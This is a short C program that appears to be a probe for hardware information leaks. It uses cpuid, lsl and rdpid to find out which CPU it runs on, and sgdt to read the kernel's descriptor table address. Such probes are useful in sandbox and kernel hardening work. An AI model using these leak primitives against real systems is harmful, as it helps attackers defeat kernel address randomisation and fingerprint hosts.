// Leak: the number of the CPU that a program runs on, by cpuid, lsl and rdpid, and addresses of the machine's kernel.
#include "leak.h"
#include <cpuid.h>

int main(void) {
	unsigned a, b, c, d;
	unsigned long limit = 0, pid = 0;
	struct {
		unsigned short limit;
		unsigned long base;
	} __attribute__((packed)) table = {0};
	__cpuid(1, a, b, c, d);
	show("leaf 1: APIC id %x\n", b >> 24);
	unsigned leaves[] = {0xb, 0x1f, 0x8000001e};
	for (int i = 0; i < 3; i++) {
		if (__get_cpuid_max(leaves[i] & 0x80000000, 0) < leaves[i])
			continue;
		__cpuid_count(leaves[i], 0, a, b, c, d);
		show("leaf %x: %x %x\n", leaves[i], i == 2 ? a : 0, d);
	}
	__asm__ volatile("lsl %1, %0" : "=r"(limit) : "r"(0x7bUL) : "cc");
	show("lsl %lx\n", limit);
	__asm__ volatile("lsl %1, %0" : "=r"(limit) : "r"(0x33UL) : "cc");
	show("lsl of code %lx\n", limit);
	__asm__ volatile("rdpid %0" : "=r"(pid));
	show("rdpid %lx\n", pid);
	__asm__ volatile("sgdt %0" : "=m"(table));
	show("sgdt %x %lx\n", table.limit, table.base);
	return 0;
}
